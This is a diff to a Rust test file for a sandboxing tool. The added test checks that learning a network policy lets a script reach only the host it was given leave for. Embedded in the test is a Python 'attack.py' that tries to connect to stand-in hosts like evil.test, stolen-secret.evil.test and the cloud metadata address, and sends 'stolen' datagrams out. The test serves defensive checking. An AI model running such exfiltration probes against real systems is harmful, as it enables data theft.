@@ -1,7 +1,9 @@
-//! Whom a refusal is blamed on: a process that shares no socket with the one that was refused must never be named.
+//! Who is told to have been refused, and what watching a command lets out: a process that shares no socket with the one
+//! that was refused must never be named, and a lesson must not be a way out.
 
+use crate::network_world::{WAYS, internet, lines, seen};
 use crate::support::world::{PUBLIC, World};
-use crate::support::{As, BOTH, Run};
+use crate::support::{As, BOTH, Run, binary, to_the_end};
 use serde_json::json;
 
 /// Holds what others would like to be taken for: a connection from port 5002, and datagrams on port 5000 that others may
@@ -139,5 +141,43 @@ print("done")
         run.assert_ok();
         assert_eq!(run.stdout(), "done\n", "{who:?}: {}", run.story());
         run.assert_denied("net.connect", "5.5.5.5:6000");
+    }
+}
+
+/// N15: a lesson without leave sends nothing out, by name, by address, by datagram nor by a question; with leave for one
+/// host, only to that one. The world counts.
+#[test]
+fn a_lesson_lets_out_only_what_was_named() {
+    const TEXT: &str = r#"
+import os
+for way in EVERY:
+    for host in ("good.test", "evil.test", "8.8.8.8", "169.254.169.254", "stolen-secret.evil.test"):
+        try: way(host, 80)
+        except (OSError, UnicodeError, ValueError): pass
+s = socket.socket(type=socket.SOCK_DGRAM)
+for host in ("8.8.8.8", "evil.test"):
+    for port in (53, 123, 443):
+        try: s.sendto(b"stolen", (host, port))
+        except OSError: pass
+"#;
+    for who in BOTH {
+        let world = internet(who);
+        let file = world.place.file("home/project/attack.py", format!("{WAYS}\n{TEXT}"));
+        let learn = |flags: &[&str]| {
+            let head = ["policy", "learn", "-o", "learned.json"];
+            let args = [&head[..], flags, &["--", "/usr/bin/python3", file.to_str().unwrap()]].concat();
+            let output = to_the_end(&mut world.command(binary().to_str().unwrap(), &args), b"");
+            assert!(output.status.success(), "{who:?}: {output:?}");
+        };
+        learn(&[]);
+        assert_eq!(seen(&world), "", "{who:?}");
+        let learned = std::fs::read_to_string(world.place.project.join("learned.json")).unwrap();
+        assert!(learned.contains(r#""host": "evil.test""#), "control: it was tried: {learned}");
+        learn(&["--net", "good.test"]);
+        let reached = lines(&world, "tcp");
+        assert_eq!(reached, ["tcp 5.5.5.5 80"], "{who:?}: the control, and nothing else");
+        let asked = lines(&world, "dns");
+        assert!(!asked.is_empty() && asked.iter().all(|line| line.contains("good.test")), "{who:?}: {asked:?}");
+        assert_eq!(lines(&world, "udp"), Vec::<String>::new(), "{who:?}");
     }
 }
